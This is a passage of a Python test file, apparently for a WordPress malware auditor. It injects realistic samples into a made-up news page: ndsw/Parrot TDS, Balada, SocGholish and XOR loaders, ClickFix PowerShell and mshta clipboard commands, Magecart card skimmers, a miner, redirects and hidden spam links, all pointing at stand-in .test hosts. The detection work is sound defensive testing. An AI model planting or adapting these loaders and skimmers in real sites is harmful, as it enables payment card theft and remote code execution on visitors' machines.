"""Real injection families on a news site's own WordPress page, each in the forms threat
writeups (Sucuri, Wordfence, Malwarebytes, GoDaddy, Palo Alto) show them, audited with
the system lists: found, by the kind that says what it does, at the severity a reviewer
acts on. Their benign twins (a site's own code doing something alike) stay quiet.

Every page is one we wrote: the domains are made up (`.test`, `.example`) and nothing is
fetched or run. docs/ACCURACY.md ("Injection families") has the table before and after.
"""

from __future__ import annotations

import base64
import re

import pytest

from auditor.heuristics import FINDING_KINDS
from auditor.heuristics.behaviour import before_doctype
from auditor.model import PageReport, Severity
from auditor.urls import host_of

from .conftest import AuditHtml, AuditListed

H, M, L = Severity.HIGH, Severity.MEDIUM, Severity.LOW
SITE = "https://www.harbourgazette.example"
URL = SITE + "/2026/11/ferry-timetable-vote/"
_PARA = ("<p>" + "The harbour council voted on the winter ferry timetable on Tuesday. " * 8
         + "</p>")


def wp_page(*, head_top: str = "", head: str = "", body_top: str = "", post: str = "",
            widget: str = "", footer: str = "", after: str = "") -> str:
    """A WordPress news page of the site's own, with code where injections sit: the top
    of `<head>` before the site's meta, the head, the body's start, the post, a Custom
    HTML widget, `wp_footer`, and after `</html>`."""
    return f"""<!DOCTYPE html>
<html lang="en-GB">
<head>{head_top}
<meta charset="UTF-8">
<meta name="viewport" content="width=device-width, initial-scale=1">
<title>Council backs winter ferry timetable &#8211; Harbour Gazette</title>
<link rel="canonical" href="{URL}">
<link rel="stylesheet" id="gazette-style-css" href="{SITE}/wp-content/themes/gazette/style.css">
<script src="{SITE}/wp-includes/js/jquery/jquery.min.js?ver=3.7.1" id="jquery-core-js"></script>
{head}
</head>
<body class="post-template-default single single-post postid-4187">
{body_top}
<header class="site-header"><a href="{SITE}/">Harbour Gazette</a>
<nav class="main-navigation"><ul><li><a href="{SITE}/news/">News</a></li></ul></nav></header>
<main id="main"><article id="post-4187" class="post-4187 post type-post">
<h1 class="entry-title">Council backs winter ferry timetable</h1>
<div class="entry-content">{_PARA}{_PARA}{post}{_PARA}</div>
</article></main>
<aside id="secondary" class="widget-area"><section id="custom_html-3" class="widget_text widget
 widget_custom_html"><div class="textwidget custom-html-widget">{widget}</div></section></aside>
<footer class="site-footer"><p>&copy; 2026 Harbour Gazette</p></footer>
<script src="{SITE}/wp-content/themes/gazette/js/navigation.js?ver=2.4.1"></script>
{footer}
</body>
</html>
{after}"""


def _b64(text: str) -> str:
    return base64.b64encode(text.encode()).decode()


def _codes(text: str) -> str:
    return ",".join(str(ord(c)) for c in text)


def _hex(text: str) -> str:
    return "".join(f"\\x{ord(c):02x}" for c in text)


# ndsw / Parrot TDS: the loader reads referrer and cookies, fetches a PHP file on another
# hacked site and evals the answer when it holds the marker `ndsx` (Sucuri, Palo Alto)
NDSW = (
    "<script>;if(ndsw===undefined){var ndsw=true,HttpClient=function(){this['get']="
    "function(a,b){var c=new XMLHttpRequest();c['onreadystatechange']=function(){if(c["
    "'readyState']==4&&c['status']==200)b(c['responseText']);};c['open']('GET',a,true);"
    "c['send'](null);};},rand=function(){return Math['random']()['toString'](36)['substr']"
    "(2);},token=function(){return rand()+rand();};(function(){var a=navigator,b=document,"
    "f=window,i=b['cookie'],j=f['location']['hostname'],k=f['location']['protocol'],l=b["
    "'referrer'];if(l&&!p(l,j)&&!i){var m=new HttpClient(),o=k+'//www.lakeside-bakery.test/"
    "wp-content/plugins/contact-form-7/includes/js/jquery.php?id='+token();m['get'](o,"
    "function(r){p(r,'ndsx')&&f['eval'](r);});}function p(r,v){return r['indexOf'](v)!==-1;}"
    "}());};</script>")
# the later form: javascript-obfuscator, the URL and the API names in its string table
NDSW_OBFUSCATED = (
    "<script>var ndsw=ndsw||true;(function(_0x1a2b3c,_0x4d5e6f){var _0x2c1f0a=_0x1f2e,"
    "_0x51a2b7=_0x1a2b3c();while(!![]){try{var _0x3e4f5a=parseInt(_0x2c1f0a(0x1a0))/0x1;"
    "if(_0x3e4f5a===_0x4d5e6f)break;else _0x51a2b7['push'](_0x51a2b7['shift']());}catch("
    "_0x1b2c3d){_0x51a2b7['push'](_0x51a2b7['shift']());}}}(_0x3c4d,0x2f1a3));function "
    "_0x1f2e(_0x5a6b7c,_0x1c2d3e){var _0x3c4d5e=_0x3c4d();return _0x1f2e=function(_0x4e5f6a)"
    "{return _0x3c4d5e[_0x4e5f6a-0x1a0];},_0x1f2e(_0x5a6b7c,_0x1c2d3e);}function _0x3c4d(){"
    "var _0x6d7e8f=['ndsx','referrer','responseText','cookie','//www.lakeside-bakery.test/"
    "wp-content/plugins/contact-form-7/includes/js/jquery.php?id=','eval','open','GET',"
    "'send'];_0x3c4d=function(){return _0x6d7e8f;};return _0x3c4d();}var _0x4a5b=_0x1f2e;"
    "(function(){var _0x7e8f9a=document[_0x4a5b(0x1a1)],_0x8f9a0b=document[_0x4a5b(0x1a3)];"
    "if(_0x7e8f9a&&!_0x8f9a0b){var _0x9a0b1c=new XMLHttpRequest();_0x9a0b1c[_0x4a5b(0x1a6)]("
    "_0x4a5b(0x1a7),location.protocol+_0x4a5b(0x1a4)+Math.random());_0x9a0b1c.onload="
    "function(){var _0x0b1c2d=_0x9a0b1c[_0x4a5b(0x1a2)];window[_0x4a5b(0x1a5)](_0x0b1c2d);};"
    "_0x9a0b1c[_0x4a5b(0x1a8)]();}}());</script>")
# ndsw's later form: javascript-obfuscator's string table and rotation with its `_0x`
# names renamed to letters by a minifier, the table's words cut in pieces
# (Sucuri's and Palo Alto's ndsw/ndsx write-ups show it appended to themes' scripts)
NDSW_RENAMED = (
    "<script>;if(ndsw===undefined){function g(a,b){var t=V();return g=function(i,k){i=i-0x64;"
    "var s=t[i];return s;},g(a,b);}function V(){var v=['refer','rer','respo','nseTe','xt',"
    "'eval','cooki','e','//www.lakeside-bakery.test/wp-content/plugins/contact-form-7/"
    "includes/js/jquery.php','?id=','ndsx','GET','open','send','index','Of','70QzKf'];V=function()"
    "{return v;};return V();}(function(a,b){var l=g,t=a();while(!![]){try{var n=parseInt(l("
    "0x74))/0x1;if(n===b)break;else t['push'](t['shift']());}catch(e){t['push'](t['shift']());}}"
    "}(V,0x46));var ndsw=true;(function(){var Y=g,G=document,O=window,P=G[Y(0x6a)+Y(0x6b)],f=G["
    "Y(0x64)+Y(0x65)];if(f&&!i(f,O['location']['hostname'])&&!P){var x=new XMLHttpRequest();x["
    "Y(0x70)](Y(0x6f),Y(0x6c)+Y(0x6d)+Math.random(),true);x.onload=function(){var E=x[Y(0x66)+"
    "Y(0x67)+Y(0x68)];i(E,Y(0x6e))&&O[Y(0x69)](E);};x[Y(0x71)](null);}function i(E,L){return E["
    "Y(0x72)+Y(0x73)](L)!==-0x1;}}());};</script>")
# Sign1: referrer tested against search and social sites, a cookie so it fires once, an
# XOR-decoded address that changes every ten minutes (Sucuri, 2024)
SIGN1_LOADER = (
    "<script>(function(){var k=42,d=function(s){var r='';for(var i=0;i<s.length;i++){r+="
    "String.fromCharCode(s.charCodeAt(i)^k);}return r;};var ref=document.referrer,ok="
    "/google\\.|facebook\\.|yahoo\\.|instagram\\.|bing\\./.test(ref);if(!ok||document.cookie"
    ".indexOf('_GPSLSC=')!==-1)return;document.cookie='_GPSLSC=1; max-age=86400; path=/';"
    "var t=Math.floor(Date.now()/600000);var u=d('BB^^ZY\\x10\\x05\\x05')+t.toString(16)+"
    "'.sign-analytics.test/'+t.toString(16)+'.js';var s=document.createElement('script');"
    "s.src=u;document.head.appendChild(s);})();</script>")
SIGN1_REDIRECT = (
    "<script>if(document.cookie.indexOf('visited_once=')===-1&&new Date().getHours()>=8){"
    "document.cookie='visited_once=1;max-age=86400;path=/';if(/google|bing|yahoo/.test("
    "document.referrer)){window.location.href='https://prize-claim-center.test/?s=hg';}}"
    "</script>")
# DollyWay v3: the loader picks one of several other hacked WordPress sites at random
DOLLYWAY = (
    "<script>(function(){var h=['https://greenvalleyplumbing.test/wp-content/plugins/"
    "wp-statistics/assets/js/tracker.js','https://mountainviewdental.test/wp-content/plugins/"
    "wp-statistics/assets/js/tracker.js','https://oakridgeyoga.test/wp-content/plugins/"
    "wp-statistics/assets/js/tracker.js'];var s=document.createElement('script');s.src=h["
    "Math.floor(Math.random()*h.length)]+'?ver='+Math.random().toString(36).slice(2);"
    "document.head.appendChild(s);})();</script>")
# Balada Injector: String.fromCharCode chains, inserted before `document.currentScript`
BALADA_SRC = (
    "<script>var s=document.createElement('script');s.src=String.fromCharCode("
    f"{_codes('https://stay.linestoget.test/scripts/check.js?v=9')});if(document."
    "currentScript){document.currentScript.parentNode.insertBefore(s,document.currentScript)"
    ";}else{document.getElementsByTagName('head')[0].appendChild(s);}</script>")
BALADA_EVAL = ("<script>eval(String.fromCharCode(" + _codes(
    "var e=document.createElement('script');e.src='https://cdn.dataanalyticsmetrics.test/"
    "v2.js?ref='+location.hostname;document.head.appendChild(e);") + "));</script>")
# Balada's wp_options form: the element's tag and its type are char codes too, so no
# `createElement('script')` says what the decoded address is loaded into
BALADA_CODED_TAG = (
    "<script type=text/javascript> Element.prototype.putAfter = function(el) {el.parentNode"
    ".insertBefore(this, el.nextSibling);}, false;(function() { var el = document.createElement("
    f"String.fromCharCode({_codes('script')})); el.type = String.fromCharCode("
    f"{_codes('text/javascript')}); el.src = String.fromCharCode("
    f"{_codes('https://pkg.weathertilesync.test/w/track?v=4')});el.putAfter(document."
    f"getElementsByTagName(String.fromCharCode({_codes('script')}))[0]);}})();</script>")
# the checkout skimmer's XOR-and-reverse decoder run by `new Function`, its key a literal
# of the script rather than the page's host name: read, it loads a script
_XOR_KEY = "k3yZ"
_XOR_HIDDEN = "".join(chr(ord(c) ^ ord(_XOR_KEY[i % 4])) for i, c in enumerate(
    "var s=document.createElement('script');s.src='https://cdn.checkout-metrics.test/c.js';"
    "document.head.appendChild(s);"))[::-1]
XOR_KEYED_LOADER = (
    "<script>!function(z,t){!(function(z){var n=(function(z,t){return z.split('').map("
    "function(z,n){return String.fromCharCode(z.charCodeAt(0)^t.charCodeAt(n%t.length))"
    "}).join('');})(z.split('').reverse().join(''),t);try{new Function(n)();}catch(e){}})(z)}('"
    + "".join(f"\\x{ord(c):02x}" for c in _XOR_HIDDEN) + f"','{_XOR_KEY}');</script>")
# SocGholish: an async loader whose address is base64
SOCGHOLISH = (
    "<script>;(function(d,t){var s=d.createElement(t);s.async=true;s.src=atob('"
    + _b64("https://content.westbridgeinsurance.test/u4nGqDg4NmNLSQ==")
    + "');var f=d.getElementsByTagName(t)[0];f.parentNode.insertBefore(s,f);})(document,"
    "'script');</script>")
# the fake browser update overlay it (and FakeUpdates, ClearFake) shows
FAKE_UPDATE = (
    '<div id="upd" style="position:fixed;inset:0;z-index:2147483647;background:#fff">'
    "<h2>An error occurred in the display of this page</h2><p>Your browser is out of date. "
    "Update Chrome to the latest version to view this page.</p><a href='https://secure-"
    "chrome-updates.test/dl/Chrome.Update.a1b2c3.zip' download>Update Chrome</a></div>")
# ClickFix: a fake CAPTCHA copies a command and says "Win+R, Ctrl+V, Enter"
CLICKFIX_WRITE = (
    '<div id="cf" style="position:fixed;inset:0;z-index:99999"><p>Verify you are human</p>'
    '<button id="verify-btn">I\'m not a robot</button><ol id="steps" hidden><li>Press '
    "Windows Button + R</li><li>Press CTRL + V</li><li>Press Enter</li></ol></div><script>"
    "document.getElementById('verify-btn').addEventListener('click',function(){var cmd="
    "'powershell -w hidden -ep bypass -c \"iwr https://captcha-verify-cdn.test/v.ps1 | iex\""
    " # I am not a robot - reCAPTCHA Verification ID: 4821';navigator.clipboard.writeText("
    "cmd);document.getElementById('steps').hidden=false;});</script>")
CLICKFIX_COPY = (
    '<div class="recaptcha-box"><label><input type="checkbox" onclick="verifyHuman()"> I\'m '
    'not a robot</label><textarea id="rc" style="position:absolute;left:-9999px">mshta '
    "https://recaptcha-cloud.test/verify.hta # Cloudflare Verification ID 73310</textarea>"
    "</div><script>function verifyHuman(){var t=document.getElementById('rc');t.select();"
    "document.execCommand('copy');alert('Press Win+R, then Ctrl+V, then Enter');}</script>")
# Magecart: field values sent by beacon, image address or WebSocket to a lookalike host
SKIM_BEACON = (
    "<script>document.addEventListener('submit',function(e){var f=e.target,d={};"
    "f.querySelectorAll('input,select').forEach(function(i){d[i.name]=i.value;});if(d["
    "'payment[cc_number]']){navigator.sendBeacon('https://cdn-jquery-min.test/collect',"
    "btoa(JSON.stringify(d)));}},true);</script>")
SKIM_IMAGE = (
    "<script>window.addEventListener('load',function(){var b=document.querySelector("
    "'#checkout-button');b&&b.addEventListener('click',function(){var cc=document."
    "getElementById('cc-number').value,cvv=document.getElementById('cc-cvv').value;var i="
    "new Image();i.src='https://googletagsmanager.test/pixel.gif?d='+encodeURIComponent("
    "btoa(cc+'|'+cvv));});});</script>")
SKIM_SOCKET = (
    "<script>(function(){var ws=new WebSocket('wss://stats-cdn-analytics.test/ws');document"
    ".querySelectorAll('input').forEach(function(i){i.addEventListener('change',function(){"
    "ws.send(JSON.stringify({n:i.name,v:i.value,h:location.host}));});});})();</script>")
SKIM_FETCH = (
    "<script>jQuery(function($){$('#place_order').on('click',function(){var d={n:$("
    "'#billing_first_name').val(),c:document.getElementById('stripe-card-number').value,e:"
    "document.getElementById('stripe-card-expiry').value,v:document.getElementById("
    "'stripe-card-cvc').value};fetch('https://woo-payments-cdn.test/api/v2/log',{method:"
    "'POST',mode:'no-cors',body:JSON.stringify(d)});});});</script>")
PUSH_BAIT = (
    '<div style="position:fixed;inset:0;z-index:99999"><h1>Click "Allow" to confirm that '
    "you are not a robot</h1></div><script>Notification.requestPermission().then(function"
    "(p){if(p==='granted'){navigator.serviceWorker.register('/sw.js?zone=42');}});</script>")
CASINO_LINKS = (
    '<div style="position:absolute;left:-9999px;top:-9999px"><a href="https://best-online-'
    'casino.test/">online casino</a> <a href="https://slots-bonus.test/free-spins">free spins'
    '</a> <a href="https://cheap-pills-rx.test/viagra">buy viagra</a></div>')
# an SEO kit's one link, moved off-screen by a rule the script beside it adds to the head,
# the element's name in pieces (MD Pabel's and Sucuri's write-ups of "CSS hidden" spam)
SCRIPT_HIDDEN_LINK = (
    '<div id="qW3rtY9uIopAs"><p><a href="https://cheap-meds-online.test/">look here</a></p>'
    "</div><script>function zx(){var h=document.getElementsByTagName('he'+'ad')[0];var r="
    "'#qW3rtY9uIopAs{position:fixed;overflow:hidden;top:-90817263px;z-index:9981;}';var st="
    "document.createElement('sty'+'le');st.type='text/css';st.appendChild(document."
    "createTextNode(r));h.appendChild(st);}zx();</script>")
# a nulled theme's kit (Sucuri's "hidden spam links in nulled WordPress themes"): spun
# prose around pill and loan links in a block after <body>, a script after it hiding that id
_ID_HIDDEN_LINKS = (
    "<div id='qvTr'><p>Feeling tired again? <a href=\"https://cheap-pills-rx.test/\">buy "
    "cialis online</a> <p>Short on cash this week <a href=\"https://quick-cash-now.test/\">"
    "payday loans</a> <p>Vitamins that work <a href=\"https://growth-hormone-store.test/\">"
    "HGH</a></div><script type='text/javascript'>if(document.getElementById('qvTr') != null)"
    "{document.getElementById('qvTr').style.visibility = 'hidden';document.getElementById("
    "'qvTr').style.display = 'none';}</script>")
PHARMA_FONT0 = (
    '<p style="font-size:0;line-height:0"><a href="https://casino-royale-bonus.test/">casino'
    '</a><a href="https://replica-watches-shop.test/">watches</a><a href="https://essay-'
    'writing-help.test/">essays</a></p>')
MINER = ("<script>var miner=new CH.Anonymous('rG7aVq2pYt9LmN3bXc4dWe5fUh6iOj8k',"
         "{throttle:0.3});miner.start();</script>")
FRAME_ZERO = ('<iframe src="https://traffic-exchange.test/in.php?id=5511" width="0" '
              'height="0" frameborder="0"></iframe>')
FRAME_OFFSCREEN = ('<iframe src="https://counter-stats.test/frame.html" style="position:'
                   'absolute;left:-2000px;top:0;width:300px;height:250px"></iframe>')
EVAL_ATOB = ("<script>eval(atob('" + _b64(
    "var s=document.createElement('script');s.src='https://js.metricsgateway.test/lib.js';"
    "document.body.appendChild(s);") + "'));</script>")
HEX_LOADER = (
    f"<script>var _s=document['{_hex('createElement')}']('{_hex('script')}');_s["
    f"'{_hex('src')}']='{_hex('https://cdn.fontlibrary-api.test/wp.js')}';document["
    f"'{_hex('head')}']['{_hex('appendChild')}'](_s);</script>")
# Keitaro TDS's JavaScript integration: the script address carries referrer and keyword
KEITARO = (
    "<script>document.write('<script src=\"https://trk.dealsfunnel.test/x9Kc2p.js?"
    "se_referrer=' + encodeURIComponent(document.referrer) + '&default_keyword=' + "
    "encodeURIComponent(document.title) + '&frm=script\"></scr' + 'ipt>');</script>")
# … and as injected sites carry it (the 2014-2016 "snt2014" campaign at a head's end): the
# referrer and the address handed through names, the tag written only for referred visitors
KEITARO_NAMED = (
    "<script>var a=''; var default_keyword = encodeURIComponent(document.title); var "
    "se_referrer = encodeURIComponent(document.referrer); var host = encodeURIComponent("
    "window.location.host); var base = \"http://cdn-jqlib.test/js/jquery.min.php\"; var n_url"
    " = base + \"?default_keyword=\" + default_keyword + \"&se_referrer=\" + se_referrer + "
    "\"&source=\" + host; var f_url = base + \"?c_utt=k7q2&c_utm=\" + encodeURIComponent("
    "n_url); if (default_keyword !== null && default_keyword !== '' && se_referrer !== null "
    "&& se_referrer !== ''){document.write('<script type=\"text/javascript\" src=\"' + f_url"
    " + '\">' + '<' + '/script>');}</script>")
APPENDED = '<script src="https://jqueryui-cdn-libs.test/ui.js"></script>'
# British Airways' Magecart (RiskIQ's write-up): the payment form serialised on the pay
# button's mouseup or touchend and posted by jQuery.ajax to a host of the attacker's;
# the checkout's form (a booking site's, names made up) comes with it
_PAY_FORM = (
    "<form id='paymentForm' action='/booking/confirm' method='post'><input id='cardNumber' "
    "name='cardNumber'><input id='cvv' name='cvv'><input id='cardholderName' name="
    "'cardholderName'><button id='submitButton' type='button'>Pay now</button></form>"
    "<div id='personPaying'>Ann Example</div>")
SKIM_JQUERY_AJAX = (
    _PAY_FORM + "<script>window.onload=function(){jQuery('#submitButton').bind('mouseup "
    "touchend',function(a){var n={};jQuery('#paymentForm').serializeArray().map(function(a)"
    "{n[a.name]=a.value});var e=document.getElementById('personPaying').innerHTML;n.person=e;"
    "var t=JSON.stringify(n);setTimeout(function(){jQuery.ajax({type:'POST',async:!0,url:"
    "'https://flightpay-gateway.test/gateway/app/dataprocessing/api/',data:t,dataType:"
    "'application/json'})},500)})};</script>")

# the loader's zqxq form, found appended to real theme scripts: an `_0x` table whose words
# are cut in pieces ('refer'+'rer'), read through objects of indexes
# (`_0x2b3c(_0x1a2b._0x4d5e)`, javascript-obfuscator's calls transform)
NDSW_INDEXED = (
    "<script>;if(typeof zqxq===undefined){(function(_0xa1b2c3,_0xd4e5f6){var _0x1a2b3c={"
    "_0x4d5e6f:0x90},_0x2b3c4d=_0x3c4d5e,_0x3d4e5f=_0xa1b2c3();while(!![]){try{var _0x5e6f7a="
    "parseInt(_0x2b3c4d(_0x1a2b3c._0x4d5e6f))/0x1;if(_0x5e6f7a===_0xd4e5f6)break;else _0x3d4e5f["
    "'push'](_0x3d4e5f['shift']());}catch(_0x6f7a8b){_0x3d4e5f['push'](_0x3d4e5f['shift']());}}}("
    "_0x4e5f6a,0x1c8));function _0x3c4d5e(_0x7a8b9c,_0x8b9c0d){var _0x9c0d1e=_0x4e5f6a();return "
    "_0x3c4d5e=function(_0x0d1e2f,_0x1e2f3a){_0x0d1e2f=_0x0d1e2f-0x90;var _0x2f3a4b=_0x9c0d1e["
    "_0x0d1e2f];return _0x2f3a4b;},_0x3c4d5e(_0x7a8b9c,_0x8b9c0d);}function _0x4e5f6a(){var "
    "_0x3a4b5c=['456xYz','refer','rer','cooki','e','respo','nseTe','xt','eval','//www.lakeside-"
    "bakery.test/wp-content/plugins/contact-form-7/includes/js/jquery.php','?id=','qwzx','GET',"
    "'open','send'];_0x4e5f6a=function(){return _0x3a4b5c;};return _0x4e5f6a();}var zqxq=!![];("
    "function(){var _0x5b6c7d={_0x6c7d8e:0x91,_0x7d8e9f:0x92,_0x8e9f0a:0x93,_0x9f0a1b:0x94},"
    "_0x0a1b2c=_0x3c4d5e,_0x1b2c3d=document,_0x2c3d4e=window,_0x3d4e5f2=_0x1b2c3d[_0x0a1b2c("
    "_0x5b6c7d._0x6c7d8e)+_0x0a1b2c(_0x5b6c7d._0x7d8e9f)],_0x4e5f6a7=_0x1b2c3d[_0x0a1b2c("
    "_0x5b6c7d._0x8e9f0a)+_0x0a1b2c(_0x5b6c7d._0x9f0a1b)];if(_0x3d4e5f2&&!_0x4e5f6a7){var "
    "_0x5f6a7b=new XMLHttpRequest();_0x5f6a7b[_0x0a1b2c(0x9d)](_0x0a1b2c(0x9c),location.protocol+"
    "_0x0a1b2c(0x99)+_0x0a1b2c(0x9a)+Math.random(),!![]);_0x5f6a7b.onload=function(){var "
    "_0x6a7b8c=_0x5f6a7b[_0x0a1b2c(0x95)+_0x0a1b2c(0x96)+_0x0a1b2c(0x97)];_0x6a7b8c['indexOf']("
    "_0x0a1b2c(0x9b))!==-0x1&&_0x2c3d4e[_0x0a1b2c(0x98)](_0x6a7b8c);};_0x5f6a7b[_0x0a1b2c(0x9e)]("
    "null);}}());};</script>")

# what one script hands the next, as the browser runs them in one scope: ndsw's string
# table in one script and its loader in the next; Balada's char-coded address kept in a
# name for the loader after it; a redirect kit's rule in a settings script
_TABLE_END = NDSW_RENAMED.index("var ndsw=true;")
NDSW_SPLIT = (NDSW_RENAMED[:_TABLE_END].replace(";if(ndsw===undefined){", "") + "</script>\n"
              "<script>;if(ndsw===undefined){" + NDSW_RENAMED[_TABLE_END:])
BALADA_SPLIT = (
    "<script>var _wpx_u=String.fromCharCode("
    f"{_codes('https://stay.linestoget.test/scripts/check.js?v=9')});</script>\n<script>var s="
    "document.createElement('script');s.src=_wpx_u;document.getElementsByTagName('head')[0]."
    "appendChild(s);</script>")
KIT_RULE = (
    "<script>var _rdr={u:'https://prize-claim-center.test/?s=hg',r:'google|bing|yahoo'};"
    "</script>\n<script>if(new RegExp(_rdr.r).test(document.referrer)){window.location.href="
    "_rdr.u;}</script>")

FAMILIES: list[tuple[str, dict[str, str], tuple[str, Severity]]] = [
    ("ndsw's zqxw form: numbers written as arithmetic, read through objects, wp_footer",
     {"footer": NDSW_RENAMED.replace("i=i-0x64;", "i=i-(0x32*0x3+-0x32);").replace(
         "}(V,0x46));", "}(V,0x23*0x3+-0x23));").replace(
         "var Y=g,", "var K={a:'0x6a',b:0x6b},Y=g,").replace("P=G[Y(0x6a)+Y(0x6b)]",
                                                            "P=G[Y(K.a)+Y(K.b)]")},
     ("tds-loader", H)),
    ("ndsw's zqxq form: its table's words cut, read through objects of indexes, wp_footer",
     {"footer": NDSW_INDEXED}, ("tds-loader", H)),
    ("ndsw / Parrot TDS, its string table one script before its loader, wp_footer",
     {"footer": NDSW_SPLIT}, ("tds-loader", H)),
    ("Balada char-code address in one script, its loader in the next, head",
     {"head": BALADA_SPLIT}, ("obfuscated-script", H)),
    ("Balada's address two scripts before its loader, a theme's settings between, head",
     {"head": BALADA_SPLIT.replace("</script>\n<script>var s=", "</script>\n<script>var "
                                   "gazette_theme={dark:false};</script>\n<script>var s=")},
     ("obfuscated-script", H)),
    ("a redirect kit's rule in a settings script, the redirect in the next, wp_footer",
     {"footer": KIT_RULE}, ("redirect", H)),
    ("a pop on the first click anywhere, its hook fired once, wp_footer", {"footer": (
        "<script>document.addEventListener('click',function(){window.open('https://offers-pop."
        "test/?z=5');},{once:true});</script>")}, ("popunder", M)),
    ("a pop on the first click, its address in base64, wp_footer", {"footer": (
        "<script>document.addEventListener('click',function(){window.open(atob('"
        + _b64("https://offers-pop.test/?z=5") + "'));},{once:true});</script>")},
     ("popunder", M)),
    ("a redirect to a name holding the address's char codes, window.stop() first, head",
     {"head": "<script>window.stop();var l=String.fromCharCode("
      f"{_codes('https://bvs.offer-trackhub.test/go.php?s=43636&id=184')});window.location."
      "replace(l);document.location.href=l;</script>"}, ("redirect", H)),
    ("a referrer-gated redirect to a name its script assigns the address, wp_footer",
     {"footer": "<script>var target_url='https://prize-claim-center.test/?s=hg';if(/google|"
      "bing/.test(document.referrer)){location.replace(target_url);}</script>"},
     ("redirect", H)),
    ("ndsw / Parrot TDS, plain, wp_footer", {"footer": NDSW}, ("tds-loader", H)),
    ("ndsw / Parrot TDS, obfuscated, wp_footer", {"footer": NDSW_OBFUSCATED}, ("tds-loader", H)),
    ("ndsw / Parrot TDS, string table renamed, wp_footer", {"footer": NDSW_RENAMED},
     ("tds-loader", H)),
    ("ndsw / Parrot TDS, string table renamed, its loop minified to while(!0), wp_footer",
     {"footer": NDSW_RENAMED.replace("while(!![])", "while(!0)")}, ("tds-loader", H)),
    ("ndsw / Parrot TDS, string table renamed, its loop written for(;;), wp_footer",
     {"footer": NDSW_RENAMED.replace("while(!![])", "for(;;)")}, ("tds-loader", H)),
    ("Sign1 XOR loader, Custom HTML widget", {"widget": SIGN1_LOADER}, ("tds-loader", H)),
    ("Sign1-style cookie and time gated redirect, widget", {"widget": SIGN1_REDIRECT},
     ("redirect", H)),
    ("DollyWay loader rotating hacked sites, wp_footer", {"footer": DOLLYWAY}, ("tds-loader", H)),
    ("Keitaro JS integration, head", {"head": KEITARO}, ("tds-loader", M)),
    ("Keitaro JS integration, referrer and address handed through names, head",
     {"head": KEITARO_NAMED}, ("tds-loader", M)),
    ("Keitaro JS integration through names, its query joined over lines, head", {"head":
        KEITARO_NAMED.replace('default_keyword + "&se_referrer', 'default_keyword +\n    '
                              '"&se_referrer').replace("; var ", ";\nvar ")}, ("tds-loader", M)),
    ("Keitaro JS integration, the referrer read by its name in brackets, head",
     {"head": KEITARO.replace("document.referrer", "document['referrer']")}, ("tds-loader", M)),
    ("Keitaro JS integration through names, the referrer in brackets, head", {"head":
        KEITARO_NAMED.replace("document.referrer", 'document["referrer"]')}, ("tds-loader", M)),
    ("Balada fromCharCode src, head", {"head": BALADA_SRC}, ("obfuscated-script", H)),
    ("Balada eval(fromCharCode), in the post", {"post": BALADA_EVAL}, ("obfuscated-script", H)),
    ("Balada char-code tag and src, head", {"head": BALADA_CODED_TAG}, ("obfuscated-script", H)),
    ("Balada char-code tag in capitals, head", {"head": BALADA_CODED_TAG.replace(
        _codes("script"), _codes("SCRIPT"))}, ("obfuscated-script", H)),
    ("Balada char-code tag in hex, head", {"head": BALADA_CODED_TAG.replace(
        _codes("script"), ",".join(hex(ord(c)) for c in "script"))}, ("obfuscated-script", H)),
    ("Balada char-code tag through window.String['fromCharCode'], head", {
        "head": BALADA_CODED_TAG.replace(f"createElement(String.fromCharCode({_codes('script')}",
                                         "createElement(window.String['fromCharCode']("
                                         f"{_codes('script')}")}, ("obfuscated-script", H)),
    ("Balada char-code tag and src by fromCharCode.apply, head", {"head": re.sub(
        r"String\.fromCharCode\(([\d,]+)\)", r"String.fromCharCode.apply(null,[\1])",
        BALADA_CODED_TAG)}, ("obfuscated-script", H)),
    ("Balada char-code tag held in a name, head", {"head": BALADA_CODED_TAG.replace(
        f"var el = document.createElement(String.fromCharCode({_codes('script')}));",
        f"var t = String.fromCharCode({_codes('script')}); var el = document.createElement(t);"
    )}, ("obfuscated-script", H)),
    ("SocGholish atob loader, wp_footer", {"footer": SOCGHOLISH}, ("obfuscated-script", H)),
    ("XOR-hidden loader run by new Function, its key in the script, wp_footer", {
        "footer": XOR_KEYED_LOADER}, ("obfuscated-script", H)),
    ("XOR-hidden loader run by a timer, its key in the script, wp_footer", {
        "footer": XOR_KEYED_LOADER.replace("new Function(n)();", "setTimeout(n,1);")},
     ("obfuscated-script", H)),
    ("XOR-hidden loader run by Function.call, wp_footer", {
        "footer": XOR_KEYED_LOADER.replace("new Function(n)();", "Function.call(null,n)();")},
     ("obfuscated-script", H)),
    ("fake browser update overlay", {"body_top": FAKE_UPDATE}, ("fake-update", H)),
    ("ClickFix clipboard.writeText", {"body_top": CLICKFIX_WRITE}, ("clipboard-command", H)),
    ("ClickFix execCommand('copy') of a hidden textarea", {"body_top": CLICKFIX_COPY},
     ("clipboard-command", H)),
    ("Magecart sendBeacon on submit", {"footer": SKIM_BEACON}, ("form-skimmer", H)),
    ("Magecart image address on checkout click", {"footer": SKIM_IMAGE}, ("form-skimmer", H)),
    ("Magecart WebSocket on change", {"footer": SKIM_SOCKET}, ("form-skimmer", H)),
    ("Magecart fetch POST of card fields on a WooCommerce checkout", {"footer": SKIM_FETCH},
     ("form-skimmer", H)),
    ("push 'click Allow, not a robot' bait", {"body_top": PUSH_BAIT}, ("notification-bait", H)),
    ("SEO casino links off-screen, wp_footer", {"footer": CASINO_LINKS}, ("hidden-links", H)),
    ("SEO link off-screen by a rule its script writes, wp_footer", {"footer": SCRIPT_HIDDEN_LINK},
     ("hidden-links", H)),
    ("SEO link hidden by a rule its script writes, in the post", {"post": (
        '<span class="k7mz2"><a href="https://replica-bags-outlet.test/">bags</a></span><script>'
        "var s=document.createElement('style');s.textContent='.k7mz2{display:none}';document."
        "head.appendChild(s);</script>")}, ("hidden-links", H)),
    ("SEO link a script's rule moves a world away, its name all letters, wp_footer", {"footer": (
        '<div id="hZkQwPtrLm"><p><a href="https://cheap-meds-online.test/">look here</a></p>'
        "</div><script>var r='#hZkQwPtrLm{position:fixed;overflow:hidden;top:-90817263px}';"
        "var st=document.createElement('st'+'yle');st.appendChild(document.createTextNode(r));"
        "document.getElementsByTagName('head')[0].appendChild(st);</script>")},
     ("hidden-links", H)),
    ("SEO link selling replicas a script's plainly named rule hides, wp_footer", {"footer": (
        '<div id="partner"><a href="https://cheap-replica-watches.test/">replica watches</a></div>'
        "<script>var s=document.createElement('st'+'yle');s.innerHTML='#partner{display:none}';"
        "document.head.appendChild(s);</script>")}, ("hidden-links", H)),
    ("SEO link off-screen by a rule in a template literal, wp_footer", {"footer": (
